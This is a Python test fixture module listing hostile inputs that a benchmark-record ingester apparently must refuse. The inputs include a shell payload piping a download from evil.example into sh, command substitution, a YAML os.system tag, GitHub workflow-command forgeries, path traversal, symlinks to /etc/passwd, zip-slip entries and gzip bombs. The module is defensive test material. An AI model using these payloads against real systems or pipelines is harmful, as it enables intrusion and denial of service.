"""What a stranger may try, as tables; each test module holds its part of the program to them."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import stat
import zipfile
from collections.abc import Callable
from dataclasses import fields
from datetime import UTC, datetime, timedelta
from functools import partial
from operator import methodcaller
from pathlib import Path
from typing import Any

import hostile_archives
import synthetic

from bench.ingest import Asked, Ticket
from bench.plan.jobs import Description
from bench.records import store
from bench.records.record import Record, canonical_json, spec_key

VARIANT = synthetic.BF16
HARDWARE = "l40"
FOLDER = f"{HARDWARE}/qwen3-8b-bf16"

# Texts that mean something to a shell, an expression, Markdown, HTML, a log or a file system.
TEXTS = {
    "shell": '"; curl evil.example | sh #',
    "shell substitution": "$(touch /tmp/pwned)`id`",
    "expression": "${{ github.token }}",
    "workflow command": "x\n::set-env name=PATH::/tmp/evil\n::stop-commands::x",
    "workflow command, encoded": "x%0A::error::forged",
    "output delimiter": "x\nmatrix=[]\nEOF",
    "markdown link": "[click](https://evil.example)",
    "markdown image": "![x](https://evil.example/beacon.png)",
    "markdown table": "a | b | **c**\n|---|---|",
    "code fence": "```\n# heading\n```",
    "code span": "`code` ``two`` \\`",
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "html comment": "--> <!-- quantbench:results -->",
    "mention": "@octocat and @github/security",
    "reference": "fixes #1, see GH-2 and octocat/repo#3",
    "bare link": "https://evil.example www.evil.example evil@example.com",
    "bidi": "safe\u202egnp.exe\u2066\u200b",
    "terminal": "\x1b[2J\x1b]0;owned\x07\r",
    "path": "../../.github/workflows/evil",
    "template": "{{ config }} {% include '/etc/passwd' %} {{< include /etc/passwd >}}",
    "yaml": "x: !!python/object/apply:os.system ['id']",
    "yaml key": "x\nruns-on: self-hosted\npermissions: write-all",
    "yaml flow": "x, evil: {run: id}",
    "yaml document": "x\n---\non: push\n...",
    "yaml anchor": "&a [*a, *a]",
    "argument": "--trust-remote-code --host=0.0.0.0",
    "long": "A" * 100_000,
}

HARDWARE_TABLE = '[[hardware]]\nid = "h"\nname = "H"\nengine = "cpu"\nrunner = ["ubuntu-latest"]\n'
_FAMILY = '[[family]]\nname = "F"\nbaseline = "V"\n'


def models(variant: str, hardware: str = HARDWARE_TABLE) -> str:
    """A models.toml of one variant with these lines."""
    return f'{hardware}{_FAMILY}[[variant]]\nname = "V"\nfamily = "F"\n{variant}\n'


# Where a models.toml takes a text of its author's choosing, as the TOML string it is given.
FIELDS: dict[str, Callable[[str], str]] = {
    "name": lambda text: models('repo = "a/b"').replace('\nname = "V"', f"\nname = {text}"),
    "repo": lambda text: models(f"repo = {text}"),
    "revision": lambda text: models(f'repo = "a/b"\nrevision = {text}'),
    "file": lambda text: models(f'repo = "a/b"\nfile = {text}'),
    "dtype": lambda text: models(f'repo = "a/b"\nserve = {{ dtype = {text} }}'),
    "tasks": lambda text: models(f'repo = "a/b"\nquality = {{ tasks = [{text}] }}'),
    "id": lambda text: models('repo = "a/b"', HARDWARE_TABLE.replace('"h"', text)),
    "runner": lambda text: models('repo = "a/b"', HARDWARE_TABLE.replace('"ubuntu-latest"', text)),
}

# A models.toml, and the key that must be named in the answer.
MODELS: dict[str, tuple[str, str]] = {
    **{
        f"{field}: {kind}": (make(json.dumps(text)), field)
        for field, make in FIELDS.items()
        for kind, text in TEXTS.items()
    },
    "repo: parent": (models('repo = "../b"'), "repo"),
    "repo: dots": (models('repo = "a/b..c"'), "repo"),
    "repo: address": (models('repo = "https://evil.example/a"'), "repo"),
    "file: absolute": (models('repo = "a/b"\nfile = "/etc/passwd.gguf"'), "file"),
    "file: parent": (models('repo = "a/b"\nfile = "x/../../y.gguf"'), "file"),
    "option: remote code": (models('repo = "a/b"\nserve = { trust_remote_code = true }'),
                            "trust_remote_code"),
    "option: host": (models('repo = "a/b"\nserve = { host = "0.0.0.0" }'), "host"),
    "option: plugin": (models('repo = "a/b"\nserve = { worker_cls = "evil.Worker" }'),
                       "worker_cls"),
    "option: as argument": (models('repo = "a/b"\nserve = { dtype = "half --port 1" }'), "dtype"),
    "task: path": (models('repo = "a/b"\nquality = { tasks = ["../evil.yaml"] }'), "tasks"),
    "hardware: path": (models('repo = "a/b"', HARDWARE_TABLE.replace('"h"', '"../h"')), "id"),
    "nested": ("x = " + "[" * 50_000 + "]" * 50_000, "file"),
    "nested tables": (f"[{'a.' * 50_000}a]", "file"),
    "nested inline": ("x = " + "{a=" * 30_000 + "1" + "}" * 30_000, "file"),
    "key: html": (models('repo = "a/b"\n"<script>" = 1'), "<script>"),
}  # fmt: skip


def record_files() -> dict[str, bytes]:
    """A sound artifact: one speed record and its sidecar."""
    record, sidecars = synthetic.speed_record(VARIANT)
    return pack(record.model_dump(mode="json"), sidecars)


def plan() -> dict[Ticket, Asked]:
    """The plan that asked for `record_files`."""
    record, _ = synthetic.speed_record(VARIANT)
    ticket = Ticket(record.hardware, record.variant, record.stage)
    return {ticket: Asked(record.key, describe(record), frozenset({1}))}


def describe(record: Record) -> Description:
    """What the plan of a sound record says of it."""
    return Description(**{each.name: getattr(record, each.name) for each in fields(Description)})


def pack(raw: dict[str, Any], sidecars: list[bytes]) -> dict[str, bytes]:
    """An artifact's files: one record, as JSON, and its sidecars."""
    finished = datetime.fromisoformat(raw["provenance"]["finished_at"])
    name = f"{raw['stage']}-{finished:%Y%m%dT%H%M%SZ}-{raw['key'][:8]}.json"
    folder = f"{raw['hardware']}/{raw['variant']}"
    files = {f"{folder}/{hashlib.sha256(d).hexdigest()}.json.gz": d for d in sidecars}
    return {f"{folder}/{name}": canonical_json(raw).encode(), **files}


def edited(change: Callable[[dict[str, Any]], object]) -> dict[str, bytes]:
    """A sound artifact but for what `change` does to its record."""
    record, sidecars = synthetic.speed_record(VARIANT)
    raw = record.model_dump(mode="json")
    change(raw)
    return pack(raw, sidecars)


def _respec(raw: dict[str, Any]) -> None:
    raw["spec"] = {**raw["spec"], "asked": {"prompts": 1}}
    raw["key"] = spec_key(raw["spec"])


def _first_repeat(raw: dict[str, Any]) -> dict[str, Any]:
    repeat: dict[str, Any] = raw["speed"]["loads"][0]["repeats"][0]
    return repeat


def _in_the_future(raw: dict[str, Any]) -> None:
    tomorrow = datetime.now(UTC) + timedelta(days=1)
    raw["provenance"]["finished_at"] = f"{tomorrow:%Y-%m-%dT%H:%M:%SZ}"


def _swap_sidecar(
    data: bytes, rows: int = 1, finished: str = "2026-03-01T12:00:00Z"
) -> dict[str, bytes]:
    digest = hashlib.sha256(data).hexdigest()
    entry = {"file": f"{digest}.json.gz", "sha256": digest, "size_bytes": len(data), "rows": rows}
    record, _ = synthetic.speed_record(VARIANT)
    raw = record.model_dump(mode="json")
    raw["speed"]["requests"] = entry
    raw["provenance"]["finished_at"] = finished
    return pack(raw, [data])


def _bomb() -> bytes:
    return gzip.compress(b"[1" + b" " * 2**26 + b"]", mtime=0)


def _small_bombs() -> dict[str, bytes]:
    """Five sound records, each with a sidecar nearly as large as one may be."""
    text = gzip.decompress(synthetic.speed_record(VARIANT)[1][0]) + b" " * (63 * 2**20)
    files: dict[str, bytes] = {}
    for i in range(5):
        data = gzip.compress(text, compresslevel=1, mtime=i)
        files |= _swap_sidecar(data, 6, f"2026-03-01T12:00:0{i}Z")
    return files


def _other_bytes() -> dict[str, bytes]:
    files = record_files()
    sidecar = next(name for name in files if name.endswith(".gz"))
    return {**files, sidecar: store.pack_sidecar([1, 2])[1]}


def _renamed(name: str) -> dict[str, bytes]:
    files = record_files()
    record = next(name for name in files if name.endswith(".json"))
    return {name: files.pop(record), **files}


def _text(change: Callable[[str], str]) -> dict[str, bytes]:
    files = record_files()
    record = next(name for name in files if name.endswith(".json"))
    return {**files, record: change(files[record].decode()).encode()}


# What a record may claim of itself and models.toml does not say.
OTHERWISE: dict[str, Any] = {
    "variant_name": "Qwen3-8B-BF16",
    "family": "Another",
    "baseline": False,
    "hardware_name": "Another",
    "price_per_hour_usd": 0.01,
    "service_level": {"ttft_p90_ms": 1.0, "tpot_p90_ms": 50.0},
    "decision": {"recovery": 0.01},
    "reproduces": "l40-2025-awq",
}

# An artifact's files, and words of the refusal.
ARTIFACTS: dict[str, tuple[Callable[[], dict[str, bytes]], str]] = {
    "a workflow": (lambda: {".github/workflows/x.yml": b"on: push"}, "not the path of a record"),
    "a script beside": (lambda: {**record_files(), f"{FOLDER}/x.py": b""}, "not the path"),
    "a file at the top": (lambda: {**record_files(), "README.md": b""}, "not the path"),
    "an upper-case path": (lambda: _renamed("L40/X/speed-20260301T120000Z-00000000.json"), "path"),
    "a line break in a name": (lambda: {f"{FOLDER}/a\nb.json": b"{}"}, "not the path"),
    "another's folder": (
        lambda: _renamed("l40/other/speed-20260301T120000Z-00000000.json"), "does not follow",
    ),
    "not JSON": (lambda: _text(lambda text: text[:-10]), "not a record"),
    "NaN": (
        lambda: _text(lambda text: text.replace('_usd": 0.8', '_usd": NaN')), "not a record",
    ),
    "a key twice": (
        lambda: _text(lambda text: text.replace("{", '{"key": "x",', 1)), "not in canonical form",
    ),
    "deeply nested": (lambda: _text(lambda _: "[" * 500_000), "not a record"),
    "a large record": (lambda: _text(lambda text: text + " " * 2**23), "is larger than"),
    "an unknown field": (lambda: edited(lambda raw: raw.update(evil=1)), "not a record"),
    "a forged key": (lambda: edited(lambda raw: raw.update(key="f" * 64)), "not the hash"),
    "another spec": (lambda: edited(_respec), "not the one the plan asked for"),
    "an unasked variant": (lambda: edited(lambda raw: raw.update(variant="other")), "did not ask"),
    "an unasked hardware": (lambda: edited(lambda raw: raw.update(hardware="h100")), "did not ask"),
    "a variant that is a path": (
        lambda: {**_renamed(f"{FOLDER}/speed-20260301T120000Z-00000000.json")}, "does not follow",
    ),
    "a future schema": (lambda: edited(lambda raw: raw.update(schema_version=99)), "schema 99"),
    "ok without numbers": (lambda: edited(lambda raw: raw.update(speed=None)), "no speed part"),
    **{
        f"another {part}": (partial(edited, methodcaller("update", {part: value})),
                            f"the plan has another {part}")
        for part, value in OTHERWISE.items()
    },
    "a number that overflows": (
        lambda: edited(lambda raw: _first_repeat(raw).update(output_throughput_tps=1e308)),
        "beyond 1e+15",
    ),
    "a repeat in no time": (
        lambda: edited(lambda raw: _first_repeat(raw).update(duration_s=0.0)), "took no time",
    ),
    "from the future": (lambda: edited(_in_the_future), "in the future"),
    "a name that is HTML": (
        lambda: edited(lambda raw: raw.update(variant_name="<script>")), "another variant_name",
    ),
    "a missing sidecar": (
        lambda: {n: d for n, d in record_files().items() if n.endswith(".json")}, "missing",
    ),
    "another sidecar": (_other_bytes, "SHA-256"),
    "a stray sidecar that lies": (
        lambda: {**record_files(), f"{FOLDER}/{'0' * 64}.json.gz": b"x"}, "its name is not",
    ),
    "a sidecar that is no gzip": (lambda: _swap_sidecar(b"[1]"), "not gzipped JSON"),
    "a sidecar that is no list": (
        lambda: _swap_sidecar(gzip.compress(b'{"a": 1}', mtime=0)), "the rows",
    ),
    "a sidecar of other rows": (
        lambda: _swap_sidecar(gzip.compress(b'[{"\\u001b[2J": 1}]', mtime=0)), "its rows",
    ),
    "a nested sidecar": (
        lambda: _swap_sidecar(gzip.compress(b"[" * 500_000, mtime=0)), "not gzipped JSON",
    ),
    "a sidecar cut short": (
        lambda: _swap_sidecar(gzip.compress(b"[1]", mtime=0)[:-9]), "not gzipped JSON",
    ),
    "a sidecar with a corrupt middle": (
        lambda: _swap_sidecar(gzip.compress(b"[1]", mtime=0)[:10] + b"\xff" * 12),
        "not gzipped JSON",
    ),
    "a sidecar with something behind": (
        lambda: _swap_sidecar(gzip.compress(b"[1]", mtime=0) + b"MZ"), "not gzipped JSON",
    ),
    "a gzip bomb": (lambda: _swap_sidecar(_bomb()), "unpacks to more than 67,108,864 bytes"),
    "bombs under the cap": (_small_bombs, "all to 268,435,456"),
    "many files": (
        lambda: {f"{FOLDER}/{i:064x}.json.gz": b"" for i in range(2_001)}, "more than 2,000",
    ),
}  # fmt: skip


def write_files(folder: Path, files: dict[str, bytes]) -> Path:
    """The artifact unpacked in a folder."""
    for name, data in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return folder


def _symlink(folder: Path) -> None:
    write_files(folder, record_files())
    (folder / FOLDER / f"{'a' * 64}.json.gz").symlink_to("/etc/passwd")


def _linked_folder(folder: Path) -> None:
    write_files(folder.parent / "elsewhere", record_files())
    folder.mkdir()
    (folder / HARDWARE).symlink_to(folder.parent / "elsewhere" / HARDWARE)


def _hard_link(folder: Path) -> None:
    write_files(folder, record_files())
    secret = folder.parent / "secret"
    secret.write_text("{}")
    os.link(secret, folder / FOLDER / "speed-20260301T120000Z-00000000.json")


def _fifo(folder: Path) -> None:
    write_files(folder, record_files())
    os.mkfifo(folder / FOLDER / f"{'a' * 64}.json.gz")


def _deep(folder: Path) -> None:
    write_files(folder, {"/".join("a" * 30) + "/x.json": b"{}"})


def zipped(*members: tuple[zipfile.ZipInfo | str, bytes]) -> Callable[[Path], None]:
    """Makes a folder with one archive of these members."""

    def make(folder: Path) -> None:
        folder.mkdir()
        with zipfile.ZipFile(folder / "a.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in members:
                archive.writestr(name, data)

    return make


def _zip_link() -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(f"{FOLDER}/{'a' * 64}.json.gz")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def _unsound(kind: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        write_files(folder, record_files())
        name = f"{FOLDER}/speed-20260301T120000Z-00000000.json"
        archive = hostile_archives.ARCHIVES[kind](name, b'{"a": 1}' * 50)
        (folder / "a.zip").write_bytes(archive)

    return make


# What a folder of files cannot say: links, devices, archives.
FOLDERS: dict[str, tuple[Callable[[Path], None], str]] = {
    "a symbolic link": (_symlink, "not a plain file"),
    "a linked folder": (_linked_folder, "not a plain file"),
    "a hard link": (_hard_link, "not a plain file"),
    "a pipe": (_fifo, "not a plain file"),
    "nested folders": (_deep, "nested too deeply"),
    "zip: parent folder": (zipped(("../../evil.json", b"{}")), "not the path"),
    "zip: absolute": (zipped(("/etc/cron.d/evil", b"")), "not the path"),
    "zip: backslashes": (zipped(("l40\\x\\..\\evil.json", b"")), "not the path"),
    "zip: inside a sound path": (zipped((f"{FOLDER}/../../x.json", b"")), "not the path"),
    "zip: deep": (zipped((f"{'a/' * 30_000}x.json", b"{}")), "not the path"),
    "zip: a link": (zipped((_zip_link(), b"/etc/passwd")), "not a plain file"),
    "zip: a zip": (zipped(("b.zip", b"PK")), "not the path"),
    "zip: bomb": (zipped((f"{FOLDER}/{'a' * 64}.json.gz", b"\0" * 2**26)), "is larger than"),
    "zip: record bomb": (
        zipped((f"{FOLDER}/speed-20260301T120000Z-00000000.json", b" " * 2**23)),
        "is larger than",
    ),
    "zip: many members": (zipped(*((f"{i}", b"") for i in range(2_001))), "more than 2,000"),
    **{f"zip: {kind}": (_unsound(kind), ".zip") for kind in hostile_archives.ARCHIVES},
}
